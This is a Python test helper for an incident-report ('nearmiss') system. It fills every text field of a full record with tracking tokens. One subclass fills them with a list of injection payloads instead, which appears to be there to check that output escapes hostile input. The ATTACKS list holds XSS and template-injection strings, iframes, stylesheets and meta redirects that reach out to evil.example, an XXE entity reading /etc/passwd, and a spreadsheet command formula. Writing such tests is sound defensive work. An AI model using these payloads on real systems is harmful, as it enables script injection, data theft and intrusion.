"""Records in which every field that can hold words holds a word of its own, known again wherever it goes."""

from __future__ import annotations

import hashlib
import json
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from functools import cache
from pathlib import Path
from typing import Any

from nearmiss.models.values import REDACTED
from tests.policy.builder import edited, near_miss

ROOT = Path(__file__).parents[2]
WORDS = frozenset({"Text", "Line"})
"""What the schema calls the fields that hold words of people."""

NO_DIGEST = "sha256:" + "0" * 64


@cache
def _schema() -> dict[str, Any]:
    schema: dict[str, Any] = json.loads((ROOT / "schemas/near-miss.schema.json").read_text("utf-8"))
    return schema


def kinds_of_fields() -> dict[str, str]:
    """Return every field of a record with the name of its kind in the schema; one that has none is ``."""
    return dict(_fields(_schema(), ""))


def _fields(said: Mapping[str, Any], path: str) -> Iterator[tuple[str, str]]:
    name = said.get("$ref", "").rpartition("/")[2]
    meant = _schema()["$defs"][name] if name else said
    if "items" in meant:
        yield from _fields(meant["items"], path)
    elif "properties" in meant:
        for key, inner in meant["properties"].items():
            yield from _fields(inner, f"{path}.{key}".lstrip("."))
    elif "oneOf" in meant and any("$ref" in one for one in meant["oneOf"]):
        for one in meant["oneOf"]:
            yield from _fields(one, path)
    else:
        yield path, name


@dataclass
class Bed:
    """Where tokens are planted: what each of them stands for, by case and field."""

    tokens: dict[str, tuple[str, str]] = field(default_factory=dict)

    def token(self, case: str, path: str) -> str:
        """Return a new word for a field; it is no part of any other word."""
        word = f"zq{len(self.tokens):04d}x"
        self.tokens[word] = (case, path)
        return word

    def text(self, case: str, path: str) -> str:
        """Return the words for a field."""
        return f"Word {self.token(case, path)} of {path.rpartition('.')[2]}"

    def plant(self, case: str, data: Mapping[str, Any]) -> dict[str, Any]:
        """Return a record with a token in every field that takes words, and in the names of its attachments."""
        planted = self._planted(case, dict(data), "")
        assert isinstance(planted, dict)
        return planted

    def _planted(self, case: str, value: Any, path: str) -> Any:
        if isinstance(value, dict):
            return {key: self._planted(case, inner, f"{path}.{key}".lstrip(".")) for key, inner in value.items()}
        if isinstance(value, list):
            return [self._planted(case, inner, path) for inner in value]
        kind = kinds_of_fields().get(path, "")
        if path in PLAIN_NAMES:
            return self.token(case, path)
        if kind in WORDS and value != REDACTED:
            return self.text(case, path)
        if kind == "FileName":
            return f"{self.token(case, path)}.txt"
        return value


class PoisonBed(Bed):
    """As a bed, but that every word is an attack, each in its turn."""

    def text(self, case: str, path: str) -> str:
        """Return an attack, after a word that tells where it came from."""
        token = self.token(case, path)
        return f"{token} {ATTACKS[len(self.tokens) % len(ATTACKS)]}"


ATTACKS = (
    "{{ 7*7 }} {% raw %} {# x #} ${7*7} <%= 7*7 %> <script>window.pwned=1</script>",
    "<img src=https://evil.example/a onerror=window.pwned=1> <img src=x onerror=window.pwned=1>",
    "<svg onload=window.pwned=1><script>window.pwned=1</script><use href=https://evil.example/s.svg#x /></svg>",
    '"><svg/onload=window.pwned=1> \' onmouseover=window.pwned=1 autofocus onfocus=window.pwned=1 x="',
    "[a](javascript:window.pwned=1) [b](https://evil.example) ![c](https://evil.example/c.png) <javascript:x>",
    "</script></style></title></textarea></noscript></template><script>window.pwned=1</script>",
    "<iframe src=//evil.example></iframe> <iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<style>@import url(https://evil.example/s.css); *{display:none}</style><link rel=stylesheet href=//evil.example>",
    "--> <!-- nearmiss: counts --> ]]> <![CDATA[ <?xml version='1.0'?> <!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>",
    "<base href=https://evil.example/> <meta http-equiv=refresh content='0;url=https://evil.example/m'>",
    "&lt;img src=x onerror=window.pwned=1&gt; &#60;script&#62;window.pwned=1&#60;/script&#62; &colon;",
    "<form action=//evil.example><input autofocus onfocus=window.pwned=1><button formaction=javascript:pwned=1>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>",
    "<a href='data:text/html,<script>window.pwned=1</script>' ping=https://evil.example/p>x</a> <b>*b*</b> `c` [[x]]",
    "<object data=https://evil.example/o></object><embed src=//evil.example/e><video src=//evil.example/v autoplay>",
    "\\u003cscript\\u003e \\x3cscript\\x3e %3Cscript%3E ';window.pwned=1;// \";window.pwned=1;// `${window.pwned=1}`",
    "__proto__ constructor toString hasOwnProperty [object Object] null undefined NaN",
    "=cmd|' /C calc'!A0 @SUM(1) +1 -1 \u00a0 \u200b \u200f \ufb01 \U0001f69c W" + "W" * 120,
)
"""What texts must never do: each within the 300 characters of a line."""

PLAIN_NAMES = frozenset({"report.details.name", "report.imported_from.source"})
"""Names that are no term of any list."""


def attachment(number: int) -> dict[str, Any]:
    """Return an entry of a list of attachments; the name of its file is planted."""
    return {"file": f"a{number}.txt", "sha256": NO_DIGEST, "caption": "…"}


def whole_record(record_id: str, similar: Sequence[str], edits: Mapping[str, Any] | None = None) -> dict[str, Any]:
    """Return a record with every field that a step does not write by itself, complete for every level."""
    more: dict[str, Any] = {
        "id": record_id,
        "report.reported_on": "2026-11-19",
        "report.occurred_on": "2026-11-17",
        "report.occurred_until": "2026-11-18",
        "report.occurred_at": "03:47",
        "report.immediate_action": "…",
        "report.suggestion": "…",
        "report.lang": "en",
        "report.entered_on_behalf": True,
        "report.links.0.system": "…",
        "report.details": [{"name": "…", "value": "…"}],
        "report.attachments": [attachment(1)],
        "report.clarifications": [{"on": "2026-11-20", "by": "s.ito", "text": "…"}],
        "report.imported_from": {"source": "…", "key": "…", "row_sha256": NO_DIGEST},
        "assessment.shift": "late",
        "assessment.crew": "…",
        "assessment.actual.what": "…",
        "assessment.extent": {"checked": "…", "result": "none-affected", "by": "s.ito", "on": "2026-11-23"},
        "assessment.referred": [{"to": "risk-register", "ref": "…", "on": "2026-11-24"}],
        "assessment.attachments": [attachment(2)],
        "investigation.evidence.0.link": {"kind": "equipment", "ref": "…", "system": "…"},
        "investigation.controls.0.note": "…",
        "investigation.similar": {"searched": "…", "found": list(similar), "note": "…"},
        "investigation.attachments": [attachment(3)],
        "root_cause.causes.1.because": "…",
        "root_cause.causes.1.review_on": "2027-11-13",
        "root_cause.attachments": [attachment(4)],
        "action_plan.actions.0.previous_owners": ["l.former"],
        "action_plan.actions.0.due_original": "2027-01-14",
        "action_plan.actions.0.extensions": [{"from": "2027-01-14", "to": "2027-01-15", "because": "…"}],
        "action_plan.actions.0.side_effects": "…",
        "action_plan.actions.0.links": [{"kind": "document", "ref": "…", "system": "…"}],
        "action_plan.actions.1": {
            "id": "A2",
            "addresses": ["C2"],
            "kind": "improvement",
            "control": "administrative",
            "what": "…",
            "owner": {"external": "…", "sponsor": "t.silva"},
            "due": "2027-01-16",
            "acceptance": "…",
        },
        "action_plan.attachments": [attachment(5)],
        "progress.0.because": "…",
        "progress.0.attachments": [attachment(6)],
        "progress.1": {"action": "A2", "status": "done", "on": "2027-01-11", "by": "t.silva", "evidence": "…"},
        "verification.checks.0.because": "…",
        "verification.checks.0.substitute": "…",
        "verification.checks.0.attachments": [attachment(7)],
        "verification.updated_documents": ["…"],
        "verification.trained": [{"what": "…", "roles": ["…"], "count": 471103, "ref": "…"}],
        "verification.attachments": [attachment(8)],
        "lesson.applies_to": ["…"],
        "lesson.release.because": "…",
        "lesson.release.not_before": "2027-04-20",
        "lesson.attachments": [attachment(9)],
        "alert": {"headline": "…", "do_this": "…", "until": "2027-12-30"},
        "briefings": [{"on": "2027-04-27", "area": "shipping", "by": "t.silva", "attended": 471105}],
        "decisions": [{"on": "2027-04-28", "body": "…", "decided": "…"}],
    }
    return edited(near_miss("high"), {**more, **(edits or {})})


def bound(data: dict[str, Any]) -> tuple[dict[str, Any], dict[str, bytes]]:
    """Return a record with the digests of its attachments, and their bytes by name."""
    files: dict[str, bytes] = {}

    def fill(value: Any) -> Any:
        if isinstance(value, dict) and "sha256" in value:
            content = f"The content of {value['file']}".encode()
            files[value["file"]] = content
            return {**value, "sha256": f"sha256:{hashlib.sha256(content).hexdigest()}"}
        if isinstance(value, dict):
            return {key: fill(inner) for key, inner in value.items()}
        return [fill(inner) for inner in value] if isinstance(value, list) else value

    filled: dict[str, Any] = fill(data)
    return filled, files
